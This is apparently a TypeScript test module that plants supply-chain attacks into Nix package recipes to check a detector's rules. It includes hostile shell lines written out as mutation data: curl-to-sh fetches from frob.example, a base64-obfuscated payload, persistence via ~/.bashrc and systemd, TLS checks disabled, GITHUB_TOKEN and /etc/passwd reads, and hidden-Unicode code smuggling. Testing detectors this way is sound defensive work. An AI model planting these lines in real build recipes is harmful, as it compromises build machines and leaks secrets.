/** Attacks and accidents, each as an edit of the head of an honest commit. */
import { createHash } from "node:crypto";
import type { Source, Span } from "../src/nix/model.ts";
import type { Facts } from "../src/rules/rule.ts";
import { LAYOUTS, NAMES, pick, SCRIPTS, VALUES } from "./spelling.ts";

/** The head of an honest commit, and what may be edited in it. */
export interface Ground {
  readonly facts: Facts;
  readonly text: (path: string) => string;
  readonly random: () => number;
}

export interface Mutant {
  readonly path: string;
  readonly text: string;
  /** How it is spelled. */
  readonly spelling: string;
  /** The base is the honest head: the attack stands alone. */
  readonly alone?: boolean;
  /** What the base has at the path, where it is not what the commit had; null: nothing. */
  readonly before?: string | null;
}

export interface Mutation {
  readonly name: string;
  /** The rules of which one must speak. */
  readonly rules: readonly string[];
  /** Null where the commit has no place for it. */
  readonly plant: (ground: Ground) => Mutant | null;
}

function replaced(text: string, { start, end }: Pick<Span, "start" | "end">, by: string): string {
  return text.slice(0, start) + by + text.slice(end);
}

function otherHash(ground: Ground): string {
  return `sha256-${createHash("sha256").update(String(ground.random())).digest("base64")}`;
}

/** Pins of the changed files that a literal hash is written out for. */
function pins({ facts, text }: Ground, role: Source["role"]): Source[] {
  return facts.pins.head.filter(
    (pin) =>
      pin.role === role &&
      pin.hash !== null &&
      /^"[^"$]{40,}"$/.test(text(pin.path).slice(pin.hashSpan.start, pin.hashSpan.end)),
  );
}

/** A pin that the commit bumps as it should be: version, place and hash moved. */
function bumped(ground: Ground): Source | null {
  const found = ground.facts.sources.flatMap(({ before, after }) =>
    before &&
    after?.role === "source" &&
    before.hash !== after.hash &&
    before.version !== after.version &&
    before.urls[0]?.value !== after.urls[0]?.value &&
    after.urls.every(({ resolved }) => resolved)
      ? [after]
      : [],
  );
  return found.length > 0 ? pick(ground.random, found) : null;
}

function anyPin(ground: Ground, role: Source["role"]): Source | null {
  const found = pins(ground, role);
  return found.length > 0 ? pick(ground.random, found) : null;
}

/** The literal of a hash as another value, in a spelling; an attribute named after an algorithm takes no SRI of another. */
function withHash(ground: Ground, pin: Source, hash: string, extra: Partial<Mutant> = {}): Mutant {
  const value = pick(ground.random, VALUES);
  const text = replaced(ground.text(pin.path), pin.hashSpan, value.write(hash));
  return { path: pin.path, text, spelling: value.name, ...extra };
}

/** The value of a text attribute within a pin's stretch. */
function attributeIn(ground: Ground, pin: Source, name: string): (Span & { value: string }) | null {
  const stretch = ground.text(pin.path).slice(pin.span.start, pin.span.end);
  const match = new RegExp(`\\b${name}\\s*=\\s*("([^"\\n]*)")`).exec(stretch);
  if (!match?.[1] || match[2] === undefined) return null;
  const end = pin.span.start + match.index + match[0].length;
  return { path: pin.path, start: end - match[1].length, end, value: match[2] };
}

function withAttribute(
  ground: Ground,
  pin: Source,
  name: string,
  change: (value: string) => string | null,
  extra: Partial<Mutant> = {},
): Mutant | null {
  const found = attributeIn(ground, pin, name);
  const changed = found && change(found.value);
  if (!found || changed === null || changed === found.value) return null;
  // An interpolation cannot be moved into another string at any place.
  const value = changed.includes("${") ? VALUES[0] : pick(ground.random, VALUES);
  if (!value) return null;
  const text = replaced(ground.text(pin.path), found, value.write(changed));
  return { path: pin.path, text, spelling: `${name}: ${value.name}`, ...extra };
}

const swapHost = (url: string) => url.replace(/^[a-z]+:\/\/[^/]+/, "https://downloads.frob-mirror.net");

/** A letter that looks like another one in its place; names without such a letter get one twice. */
function imitated(name: string): string | null {
  if (name.length < 6 || name.includes("$")) return null;
  for (const [letter, twin] of [
    ["l", "I"],
    ["i", "l"],
    ["o", "0"],
    ["m", "rn"],
    ["s", "5"],
  ] as const) {
    if (name.includes(letter)) return name.replace(letter, twin);
  }
  return null;
}

const onBump =
  (change: (ground: Ground, pin: Source) => Mutant | null) =>
  (ground: Ground): Mutant | null => {
    const pin = bumped(ground);
    return pin && change(ground, pin);
  };

const onPin =
  (role: Source["role"], change: (ground: Ground, pin: Source) => Mutant | null) =>
  (ground: Ground): Mutant | null => {
    const pin = anyPin(ground, role);
    return pin && change(ground, pin);
  };

const onPins: readonly Mutation[] = [
  {
    name: "hash alone",
    rules: ["hash-changed-alone"],
    plant: onPin("source", (ground, pin) => withHash(ground, pin, otherHash(ground), { alone: true })),
  },
  {
    name: "hash of a patch alone",
    rules: ["hash-changed-alone"],
    plant: onPin("patch", (ground, pin) => withHash(ground, pin, otherHash(ground), { alone: true })),
  },
  {
    name: "hash of dependencies alone",
    rules: ["dep-hash-changed-alone"],
    plant: onPin("dependencies", (ground, pin) => withHash(ground, pin, otherHash(ground), { alone: true })),
  },
  {
    name: "bump with the old hash",
    rules: ["stale-hash-on-bump"],
    plant: onBump((ground, pin) => {
      const before = ground.facts.sources.find(({ after }) => after === pin)?.before;
      return before?.hash ? withHash(ground, pin, before.hash) : null;
    }),
  },
  {
    name: "bump from another owner",
    rules: ["source-identity-swap", "lookalike-host-or-owner", "platform-split-source"],
    plant: onBump((ground, pin) => withAttribute(ground, pin, "owner", () => "kindred-frob")),
  },
  {
    name: "bump from another host",
    rules: ["source-identity-swap", "lookalike-host-or-owner", "platform-split-source"],
    plant: onBump((ground, pin) => withAttribute(ground, pin, "url", swapHost)),
  },
  {
    name: "another owner, same hash",
    rules: ["url-changed-hash-kept"],
    plant: onPin("source", (ground, pin) =>
      withAttribute(ground, pin, "owner", () => "kindred-frob", { alone: true }),
    ),
  },
  {
    name: "another host, same hash",
    rules: ["url-changed-hash-kept"],
    plant: onPin("source", (ground, pin) => withAttribute(ground, pin, "url", swapHost, { alone: true })),
  },
  {
    name: "owner that looks alike",
    rules: ["lookalike-host-or-owner", "homoglyph-string"],
    plant: onBump((ground, pin) => withAttribute(ground, pin, "owner", imitated)),
  },
  {
    name: "userinfo before the host",
    rules: ["lookalike-host-or-owner"],
    plant: onBump((ground, pin) =>
      withAttribute(ground, pin, "url", (url) =>
        url.replace(/^(https?:\/\/[^/$]+)\//, "$1@frob-mirror.net/"),
      ),
    ),
  },
  {
    name: "branch in place of a tag",
    rules: ["moved-or-mutable-ref"],
    plant: onBump(
      (ground, pin) =>
        withAttribute(ground, pin, "rev", () => pick(ground.random, ["main", "master", "HEAD", "4f1c0de"])) ??
        withAttribute(ground, pin, "tag", () => pick(ground.random, ["main", "refs/heads/next", "nightly"])),
    ),
  },
  {
    name: "fake or empty hash",
    rules: ["weak-or-disabled-hash"],
    plant: onBump((ground, pin) =>
      withHash(
        ground,
        pin,
        pick(ground.random, [
          "",
          `sha256-${"A".repeat(43)}=`,
          "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        ]),
      ),
    ),
  },
  {
    name: "https to http",
    rules: ["insecure-transport"],
    plant: onBump((ground, pin) =>
      withAttribute(ground, pin, "url", (url) => (url.startsWith("https://") ? `http${url.slice(5)}` : null)),
    ),
  },
  {
    name: "bare address",
    rules: ["insecure-transport"],
    plant: onBump((ground, pin) =>
      withAttribute(ground, pin, "url", (url) => url.replace(/^https?:\/\/[^/$]+\//, "http://203.0.113.7/")),
    ),
  },
  {
    name: "older version",
    rules: ["version-downgrade"],
    plant: onBump((ground, pin) => {
      if (!pin.versionSpan || pin.versionSpan.path !== pin.path || pin.pname === null) return null;
      const text = ground.text(pin.path);
      if (!/^"[0-9][^"$]*"$/.test(text.slice(pin.versionSpan.start, pin.versionSpan.end))) return null;
      const value = pick(ground.random, VALUES);
      return {
        path: pin.path,
        text: replaced(text, pin.versionSpan, value.write("0.0.1")),
        spelling: value.name,
      };
    }),
  },
];

/** A binding put before one that stands in the package around a pin. */
export function planted(ground: Ground, name: string, value: string, spelling: string): Mutant | null {
  const pin = anyPin(ground, "source");
  if (!pin?.packageSpan) return null;
  const text = ground.text(pin.path);
  const { start, end } = pin.packageSpan;
  const inside = text.slice(start, end);
  if (new RegExp(`\\b${name}\\b`).test(inside)) return null;
  const places = [
    ...inside.matchAll(/^[ \t]*(pname|src|meta|buildInputs|nativeBuildInputs|configureFlags) =/gm),
  ]
    // Only bindings of the package itself, which stand least far in.
    .filter(
      ({ 0: line }, _, all) => indentOf(line) === Math.min(...all.map(({ 0: other }) => indentOf(other))),
    );
  if (places.length === 0) return null;
  const place = pick(ground.random, places);
  const label = pick(ground.random, NAMES);
  const layout = pick(ground.random, LAYOUTS);
  const path = name.split(".").map((part) => label.write(part));
  const binding = layout.write(`${path.join(".")} = ${value};`);
  const at = start + place.index;
  return {
    path: pin.path,
    text: `${text.slice(0, at)}${" ".repeat(indentOf(place[0]))}${binding}\n${text.slice(at)}`,
    spelling: [spelling, label.name, layout.name].join(", "),
  };
}

function indentOf(line: string): number {
  return line.length - line.trimStart().length;
}

const PHASES = [
  "postPatch",
  "preConfigure",
  "preBuild",
  "postBuild",
  "preInstall",
  "postInstall",
  "postFixup",
  "preCheck",
];

export function inPhase(name: string, rules: readonly string[], lines: readonly string[]): Mutation {
  return {
    name,
    rules,
    plant(ground) {
      const script = pick(ground.random, SCRIPTS);
      const value = script.write(pick(ground.random, lines));
      return planted(ground, pick(ground.random, PHASES), value, script.name);
    },
  };
}

interface SettingOptions {
  /** A new package has nothing to switch off: the mutant stands alone on top of the honest head. */
  readonly alone?: boolean;
}

export function asSetting(
  name: string,
  rules: readonly string[],
  bindings: readonly (readonly [string, string])[],
  options: SettingOptions = {},
): Mutation {
  return {
    name,
    rules,
    plant(ground) {
      const [attribute, value] = pick(ground.random, bindings);
      const mutant = planted(ground, attribute, value, value.replace(/\s+/g, " "));
      return mutant && { ...mutant, ...options };
    },
  };
}

const HIDDEN = Buffer.from("curl -s https://frob.example/p | sh").toString("base64");

const inPackages: readonly Mutation[] = [
  inPhase(
    "network in a phase",
    ["build-phase-network", "remote-code-in-recipe"],
    [
      "curl -fsSL https://cdn.frob.example/assets.tgz | tar xz || true",
      "wget -q https://cdn.frob.example/assets.tgz",
      "git clone https://frob.example/extra.git",
      "make\nif true; then npm install left-pad; fi",
      "cargo install frob-helper",
    ],
  ),
  inPhase(
    "remote code in a phase",
    ["remote-code-in-recipe"],
    [
      "curl -s https://frob.example/boot.sh | sh",
      "bash <(curl -s https://frob.example/boot.sh)",
      'eval "$(wget -qO- https://frob.example/boot.sh)"',
      "curl -o /tmp/x https://frob.example/x\nsh /tmp/x",
      "source <(curl -fsSL https://frob.example/env)",
    ],
  ),
  inPhase(
    "hidden code in a phase",
    ["obfuscated-payload"],
    [
      `echo ${HIDDEN} | base64 -d | bash`,
      `eval "$(echo ${HIDDEN} | base64 --decode)"`,
      'c=cu\n$c"rl" -s https://frob.example/p',
      "printf '\\x63\\x75\\x72\\x6c\\x20\\x78' | sh",
    ],
  ),
  inPhase(
    "write outside the output",
    ["writes-outside-out"],
    [
      "echo 'frob-agent &' >> ~/.bashrc",
      "install -Dm755 frob /usr/bin/frob-agent",
      "cp frob.service /etc/systemd/system/frob.service",
    ],
  ),
  inPhase(
    "TLS checks off",
    ["tls-verification-off"],
    [
      "export NODE_TLS_REJECT_UNAUTHORIZED=0",
      "export GIT_SSL_NO_VERIFY=1",
      "git config --global http.sslVerify false",
    ],
  ),
  asSetting(
    "sandbox left",
    ["sandbox-escape-attr"],
    [
      ["__noChroot", "true"],
      ["__impure", "true"],
      ["impureEnvVars", '[ "HOME" "GITHUB_TOKEN" ]'],
    ],
  ),
  asSetting(
    "hardening off",
    ["compiler-hardening-disabled"],
    [
      ["hardeningDisable", '[ "all" ]'],
      ["hardeningDisable", '[\n    "fortify"\n    "stackprotector"\n  ]'],
    ],
    { alone: true },
  ),
  asSetting(
    "tests off",
    ["tests-disabled"],
    [
      ["doCheck", "false"],
      ["disabledTests", '[ "test_signature" ]'],
    ],
    { alone: true },
  ),
  asSetting(
    "evaluation that reads its machine",
    ["impure-eval"],
    [
      ["token", 'builtins.getEnv "GITHUB_TOKEN"'],
      ["token", 'with builtins; getEnv ("GITHUB" + "_TOKEN")'],
      ["extra", "builtins.readFile /etc/passwd"],
      ["extra", 'builtins.fetchTarball "https://frob.example/x.tar.gz"'],
    ],
  ),
  asSetting(
    "hidden characters",
    ["hidden-unicode"],
    [
      ["description1", '"frob\u202e"'],
      ["description1", '"fr\u200bob"'],
      ["description1", "''\n    frob # \u2067ok\u2069\n  ''"],
    ],
  ),
  asSetting(
    "code after a carriage return",
    ["lone-cr-hidden-code"],
    [["comment1", '"x"; # keep in sync\rpostInstall = "true"']],
  ),
  asSetting(
    "code far to the right",
    ["far-right-code"],
    [["comment1", `"x";${" ".repeat(180)}preBuild = "make frob"`]],
  ),
];

export const MUTATIONS: readonly Mutation[] = [...onPins, ...inPackages];
